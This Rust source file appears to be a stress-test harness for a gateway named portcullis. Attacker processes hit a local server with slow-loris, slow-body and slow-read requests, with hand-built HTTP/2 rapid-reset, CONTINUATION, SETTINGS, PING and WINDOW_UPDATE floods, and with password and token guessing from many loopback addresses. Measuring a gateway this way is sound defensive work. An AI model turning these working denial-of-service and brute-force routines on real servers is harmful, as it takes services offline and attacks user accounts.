//! The attackers: a process with a given number of connections, all of which do the same.
//!
//! An attacker that the gateway disconnects connects again. All together do so at most [`RECONNECTS_A_SECOND`] times a
//! second, because unbounded handshakes would be the only thing measured.

use std::{
    cell::Cell,
    io,
    net::{Ipv4Addr, SocketAddr},
    path::Path,
    rc::Rc,
    sync::Arc,
    time::{Duration, Instant},
};

use data_encoding::BASE64;
use hyper::client::conn::http1;
use hyper_util::rt::TokioIo;
use portcullis::users::PresentedToken;
use rustls::ClientConfig;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    runtime::{Builder, LocalOptions},
    task::spawn_local,
    time::{sleep, timeout},
};
use tokio_rustls::client::TlsStream;

use super::user::{client_config, handshake, sign_in};

/// One way to attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Rate of all attackers together, for the table.
    pub(crate) rate: &'static str,
    protocol: &'static [u8],
    /// Sent once.
    begin: fn() -> Vec<u8>,
    /// Sent repeatedly, by the attacker with this number in this turn; `Vec::new` sends nothing.
    again: fn(u32, u32) -> Vec<u8>,
    /// Interval at which each attacker sends `again`.
    every: Duration,
    /// Whether the attacker reads responses.
    reads: bool,
    /// The addresses that the attackers connect from.
    from: Source,
}

/// The addresses of the attackers.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Source {
    /// One for all of them.
    One,
    /// An address of the loopback network for each, as a botnet has: limits on each address do not add up.
    OneEach,
}

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "slow-loris",
        rate: "a byte of a head every 4 s each",
        protocol: b"http/1.1",
        begin: || b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ".to_vec(),
        again: |_, _| b"x".to_vec(),
        every: Duration::from_secs(4),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "slow-body",
        rate: "a byte of a body every 4 s each",
        protocol: b"http/1.1",
        begin: || b"POST /public/x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n".to_vec(),
        again: |_, _| b"x".to_vec(),
        every: Duration::from_secs(4),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "slow-read",
        rate: "64 MiB each, of which nothing is read",
        protocol: b"http/1.1",
        begin: || b"GET /public/large HTTP/1.1\r\nHost: localhost\r\n\r\n".to_vec(),
        again: |_, _| Vec::new(),
        every: Duration::from_secs(4),
        reads: false,
        from: Source::One,
    },
    Attack {
        name: "no-room",
        rate: "4 streams each with no room for 64 MiB",
        protocol: b"h2",
        begin: || {
            let mut sent = [PREFACE, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])].concat();
            sent.extend([1, 3, 5, 7].into_iter().flat_map(|stream| get(stream, b"/public/large")));
            sent
        },
        again: |_, _| Vec::new(),
        every: Duration::from_secs(4),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "rapid-reset",
        rate: "5,000 requests that are reset a second",
        protocol: b"h2",
        begin: preface,
        again: |_, turn| {
            let streams = (0..50).map(|number| 2 * (turn * 50 + number) + 1);
            streams
                .flat_map(|stream| {
                    [get(stream, b"/public/x"), frame(RST_STREAM, 0, stream, &[0; 4])].concat()
                })
                .collect()
        },
        every: Duration::from_secs(10),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "continuation",
        rate: "10,000 CONTINUATION a second",
        protocol: b"h2",
        begin: || [preface(), frame(HEADERS, 0, 1, &block(b"/public/x"))].concat(),
        again: |_, _| frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']).repeat(100),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "settings",
        rate: "10,000 SETTINGS a second",
        protocol: b"h2",
        begin: preface,
        again: |_, _| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(100),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "ping",
        rate: "50,000 PING a second",
        protocol: b"h2",
        begin: preface,
        again: |_, _| frame(PING, 0, 0, &[7; 8]).repeat(500),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "window-update",
        rate: "200,000 WINDOW_UPDATE a second",
        protocol: b"h2",
        begin: preface,
        again: |_, _| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(2000),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: SIGN_IN,
        rate: "100 wrong passwords a second, 1,000 people",
        protocol: b"http/1.1",
        begin: Vec::new,
        again: |_, _| Vec::new(),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::One,
    },
    Attack {
        name: "anonymous",
        rate: "2,000 requests without a credential a second",
        protocol: b"h2",
        begin: preface,
        again: |_, turn| requests(turn, |_| Vec::new()),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::OneEach,
    },
    Attack {
        name: "token-form",
        rate: "2,000 tokens with a wrong checksum a second",
        protocol: b"h2",
        begin: preface,
        again: |_, turn| requests(turn, |stream| bearer(&format!("{}x", token(1, 1, stream)))),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::OneEach,
    },
    Attack {
        name: "token-unknown",
        rate: "2,000 tokens of unknown users a second",
        protocol: b"h2",
        begin: preface,
        again: |number, turn| {
            requests(turn, |stream| bearer(&token(1000 + (number << 16) + stream, 1, stream)))
        },
        every: Duration::from_secs(10),
        reads: true,
        from: Source::OneEach,
    },
    Attack {
        name: "token-secret",
        rate: "2,000 wrong secrets of a token that exists a second",
        protocol: b"h2",
        begin: preface,
        again: |_, turn| requests(turn, |stream| bearer(&token(1, 1, stream))),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::OneEach,
    },
    Attack {
        name: "basic",
        rate: "100 wrong Basic passwords a second, 1,000 people",
        protocol: b"http/1.1",
        begin: Vec::new,
        again: |number, turn| wrong_basic(&format!("user{number}"), turn),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::OneEach,
    },
    Attack {
        name: "basic-one",
        rate: "100 wrong Basic passwords of the signed-in user a second",
        protocol: b"http/1.1",
        begin: Vec::new,
        again: |_, turn| wrong_basic("alice", turn),
        every: Duration::from_secs(10),
        reads: true,
        from: Source::OneEach,
    },
];

/// A request with a wrong Basic password of this user, another one each turn.
fn wrong_basic(user: &str, turn: u32) -> Vec<u8> {
    let credential = BASE64.encode(format!("{user}:wrong horse {turn}").as_bytes());
    format!("GET /members/page HTTP/1.1\r\nHost: localhost\r\nAuthorization: Basic {credential}\r\n\r\n")
        .into_bytes()
}

/// Attacks until it is killed; prints `ready` once all attackers have begun.
#[expect(clippy::print_stdout, reason = "the parent process reads it")]
pub(crate) fn run(name: &str, addr: &str, certificate: &Path, connections: usize) {
    let attack = ATTACKS.iter().find(|attack| attack.name == name).expect("the name of an attack");
    let addr: SocketAddr = addr.parse().unwrap();
    let tls = Arc::new(client_config(certificate, attack.protocol));
    let runtime = Builder::new_current_thread().enable_all().build_local(LocalOptions::default()).unwrap();
    runtime.block_on(async move {
        let begun = Rc::new(Cell::new(0));
        let reconnects = Rc::new(ReconnectLimit::default());
        for number in 0..u32::try_from(connections).unwrap() {
            spawn_local(keep_attacking(
                attack,
                (Arc::clone(&tls), addr),
                number,
                Rc::clone(&begun),
                Rc::clone(&reconnects),
            ));
            // At most 20 handshakes at a time, so that none exceeds the gateway's time limit.
            if number % 20 == 19 {
                while begun.get() + 20 <= number as usize {
                    sleep(Duration::from_millis(1)).await;
                }
            }
        }
        let patience = Instant::now();
        while begun.get() < connections && patience.elapsed() < Duration::from_secs(30) {
            sleep(Duration::from_millis(10)).await;
        }
        sleep(Duration::from_millis(500)).await;
        println!("ready");
        std::future::pending::<()>().await;
    });
}

/// Connects and attacks, again and again.
async fn keep_attacking(
    attack: &'static Attack,
    (tls, addr): (Arc<ClientConfig>, SocketAddr),
    number: u32,
    begun: Rc<Cell<usize>>,
    reconnects: Rc<ReconnectLimit>,
) {
    let mut is_first = true;
    loop {
        if !is_first {
            reconnects.pass().await;
        }
        let stream = connect(&tls, addr, attack.from, number).await;
        if std::mem::take(&mut is_first) {
            begun.set(begun.get() + 1);
        }
        if let Ok(stream) = stream {
            let attacked = if attack.name == SIGN_IN {
                guess(stream, number, attack.every).await
            } else {
                attack_over(stream, attack, number).await
            };
            // The gateway usually ends the connection; the table counts its limits.
            attacked.ok();
        }
    }
}

async fn connect(
    tls: &Arc<ClientConfig>,
    addr: SocketAddr,
    source: Source,
    number: u32,
) -> io::Result<TlsStream<TcpStream>> {
    let socket = TcpSocket::new_v4()?;
    if source == Source::OneEach {
        let own = Ipv4Addr::from(u32::from(Ipv4Addr::new(127, 1, 0, 1)) + number);
        socket.bind((own, 0).into())?;
    }
    handshake(tls, socket.connect(addr).await?).await
}

async fn attack_over(mut stream: TlsStream<TcpStream>, attack: &Attack, number: u32) -> io::Result<()> {
    stream.write_all(&(attack.begin)()).await?;
    stream.flush().await?;
    let mut received = vec![0; 4096];
    let mut wait = attack.every * (number % 1000) / 1000;
    for turn in 0.. {
        let until = tokio::time::Instant::now() + wait;
        wait = attack.every;
        while let Some(left) = until.checked_duration_since(tokio::time::Instant::now()) {
            if !attack.reads {
                sleep(left).await;
            } else if let Ok(read) = timeout(left, stream.read(&mut received)).await
                && read? == 0
            {
                return Ok(());
            }
        }
        stream.write_all(&(attack.again)(number, turn)).await?;
        stream.flush().await?;
    }
    Ok(())
}

/// Sends wrong passwords of unknown users, as a browser would.
async fn guess(stream: TlsStream<TcpStream>, number: u32, every: Duration) -> io::Result<()> {
    let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await.map_err(io::Error::other)?;
    spawn_local(connection);
    // Spreads the attackers over the interval.
    sleep(every * (number % 1000) / 1000).await;
    loop {
        sender.ready().await.map_err(io::Error::other)?;
        sign_in(&mut sender, &format!("user{number}"), "wrong horse").await;
        sleep(every).await;
    }
}

/// Limits reconnects to [`RECONNECTS_A_SECOND`].
#[derive(Default)]
struct ReconnectLimit(Cell<Option<tokio::time::Instant>>);

impl ReconnectLimit {
    async fn pass(&self) {
        let now = tokio::time::Instant::now();
        let next =
            self.0.get().map_or(now, |last| now.max(last + Duration::from_secs(1) / RECONNECTS_A_SECOND));
        self.0.set(Some(next));
        tokio::time::sleep_until(next).await;
    }
}

fn preface() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn get(stream: u32, path: &[u8]) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block(path))
}

/// Twenty requests, each with the header field that `credential` makes for its stream.
fn requests(turn: u32, credential: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let streams = (0..20).map(|number| 2 * (turn * 20 + number) + 1);
    streams
        .flat_map(|stream| {
            let block = [block(b"/members/page"), credential(stream)].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
        })
        .collect()
}

/// `Authorization: Bearer TOKEN` (RFC 7541 §6.2.2: not indexed; 23 is the field's number in the static table).
fn bearer(token: &str) -> Vec<u8> {
    let value = format!("Bearer {token}");
    [&[0x0f, 23 - 15, u8::try_from(value.len()).unwrap()][..], value.as_bytes()].concat()
}

/// A token with a right checksum, and a secret that nobody has.
fn token(owner: u32, id: u32, secret: u32) -> String {
    let text = format!("ptc_{owner}t{id}_{secret:0>43}");
    let mut sum = !text.bytes().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(byte), |sum, _| (sum >> 1) ^ (0xedb8_8320 * (sum & 1)))
    });
    let mut digits = [0; 6];
    for digit in digits.iter_mut().rev() {
        *digit = DIGITS[(sum % 62) as usize];
        sum /= 62;
    }
    let token = text + str::from_utf8(&digits).unwrap();
    assert!(PresentedToken::parse(token.as_bytes()).is_some(), "{token}");
    token
}

/// `GET https://localhost/PATH` (RFC 7541: the static table has method and scheme).
fn block(path: &[u8]) -> Vec<u8> {
    let path_length = u8::try_from(path.len()).unwrap();
    [&[0x82, 0x87, 0x01, 9][..], b"localhost", &[0x04, path_length], path].concat()
}

const DIGITS: &[u8; 62] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const RECONNECTS_A_SECOND: u32 = 50;
const SIGN_IN: &str = "sign-in";
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
